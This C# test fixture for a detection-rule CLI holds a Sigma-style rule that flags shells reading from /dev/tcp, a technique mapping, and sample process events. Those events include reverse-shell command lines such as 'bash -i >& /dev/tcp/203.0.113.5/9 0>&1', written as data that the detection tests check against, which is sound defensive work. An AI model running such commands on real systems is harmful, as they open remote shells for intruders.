namespace Coverbook.Cli.Tests;

/// <summary>The files that the tests of rule commands work on: a rule, a mapping and events, each without a fault.</summary>
internal static class RuleFolder
{
    public const string Rule = """
        title: Shell With A Socket
        id: 4c8f1a6e-1f0a-4d8b-9b76-2a3c5d7e9f10
        status: test
        description: Detects a shell that reads from a socket.
        references:
            - https://example.org/shells
        author: Sample
        date: 2026-04-24
        tags:
            - attack.execution
            - attack.t1059.004
        logsource:
            category: process_creation
            product: linux
        detection:
            selection:
                Image|endswith:
                    - '/bash'
                    - '/sh'
                CommandLine|contains: '/dev/tcp/'
            filter_main_admin:
                User|expand: '%admins%'
            condition: selection and not filter_main_admin
        falsepositives:
            - Unlikely
        level: high

        """;

    public const string Mapping = """
        source: Sensor
        provider: aws
        findings:
          - id: Shell
            techniques: { T1059: 0.80 }

        """;

    public const string Events = """
        {"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.5/9 0>&1","User":"bob"}
        {"Image":"/bin/sh","CommandLine":"sh -c 'x > /dev/tcp/203.0.113.5/9'","User":"root"}
        {"Image":"/bin/sh","CommandLine":"sh -c 'x > /dev/tcp/203.0.113.5/9'","User":"bob"}

        """;

    /// <summary>The rule without its placeholder, which stands for nothing unless somebody gives its values.</summary>
    public static string Sound { get; } = Rule.Replace("User|expand: '%admins%'", "User: admin", StringComparison.Ordinal);

    /// <summary>A new folder with <c>rules/</c>, <c>mappings/</c> and <c>events.jsonl</c>.</summary>
    public static TemporaryFolder Create() => new TemporaryFolder()
        .With("rules/shell_with_a_socket.yml", Rule)
        .With("mappings/sensor.yaml", Mapping)
        .With("events.jsonl", Events);
}
